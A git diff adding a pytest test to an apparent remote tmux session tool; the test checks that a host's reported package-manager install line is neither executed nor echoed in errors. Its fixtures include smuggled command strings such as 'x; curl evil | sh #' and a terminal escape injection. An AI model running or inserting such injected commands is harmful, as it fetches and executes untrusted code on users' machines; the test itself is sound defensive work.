@@ -6,7 +6,7 @@ from collections.abc import Callable
 
 import pytest
 
-from trainsh_base.errors import TrainError
+from trainsh_base.errors import MissingProgram, TrainError
 from trainsh_base.remote.target import Target
 from trainsh_base.tool.peer import PeerLost
 from trainsh_tmux.remote.host import Host, resolve
@@ -103,3 +103,12 @@ def test_a_target_that_makes_no_sense_is_a_typed_error(monkeypatch: pytest.Monke
     with pytest.raises(TrainError) as caught:
         resolve("gpu")
     assert caught.value.code == "bad_answer"
+
+
+@pytest.mark.parametrize("said", ["x; curl evil | sh #", "apt-get install -y evil; evil", "evil", "\x1b]52;c;evil"])
+@pytest.mark.parametrize("bootstrap", [False, True])
+def test_what_a_host_says_of_its_package_manager_is_no_command(said: str, bootstrap: bool) -> None:
+    with pytest.raises(MissingProgram) as caught:
+        opening.open_session(Live(Liar(["no-tmux", f"install {said}"]), "j", "w"), "", bootstrap=bootstrap)
+    assert caught.value.code == "no_tmux"
+    assert "evil" not in f"{caught.value.hint} {caught.value.message} {caught.value.data}"
